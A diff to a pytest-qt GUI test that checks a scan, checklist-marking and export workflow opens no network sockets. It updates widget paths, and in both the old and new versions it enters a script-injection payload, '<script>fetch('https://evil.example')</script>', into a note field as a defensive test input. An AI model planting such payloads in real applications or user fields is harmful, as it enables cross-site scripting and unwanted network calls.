@@ -45,14 +45,15 @@ def test_scan_mark_export_opens_no_socket(
     window = MainWindow(Services.open(), Host.at_root(root, "linux"))
     qtbot.addWidget(window)
     window.show()
-    with qtbot.waitSignal(window.clients.modelReset, timeout=10_000):
+    with qtbot.waitSignal(window.home.model.modelReset, timeout=10_000):
         window.start_scan()
     held.append(_inet_sockets_held())
-    window.tabs.setCurrentIndex(1)
-    panel = window.checklist
+    window.open_app("zoom")
+    window.app_view.tabs.setCurrentIndex(1)
+    panel = window.app_view.checklist
     panel.table.selectRow(0)
-    panel.note.setText("<script>fetch('https://evil.example')</script>")
-    qtbot.mouseClick(panel.mark_buttons["done"], Qt.MouseButton.LeftButton)
+    panel.editor.note.setText("<script>fetch('https://evil.example')</script>")
+    qtbot.mouseClick(panel.editor.mark_buttons["done"], Qt.MouseButton.LeftButton)
     assert panel.model.status(0).state == "done"
     held.append(_inet_sockets_held())
     launched: list[ExportDialog] = []
